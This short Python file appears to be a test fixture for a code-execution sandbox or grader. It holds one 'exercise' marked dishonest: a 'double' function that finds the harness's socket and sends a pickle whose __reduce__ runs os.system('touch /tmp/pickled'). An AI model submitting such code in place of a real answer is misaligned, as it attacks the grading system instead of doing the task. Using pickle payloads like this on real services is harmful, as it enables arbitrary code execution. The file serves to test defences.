"""Sends a pickle that would run a program where a value is wanted."""

from __future__ import annotations

HONEST = 0

EXERCISES = {
    "double": r"""
import os, struct
def connection():
    for number in range(3, 64):
        try:
            if os.readlink(f"/proc/self/fd/{number}").startswith("socket"):
                return number
        except OSError:
            pass
    for number in range(3, 64):
        try:
            os.fstat(number)
            return number
        except OSError:
            pass

import pickle
class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pickled",))
def double(x):
    os.write(connection(), pickle.dumps(Bomb()))
    return Bomb()
""",
}
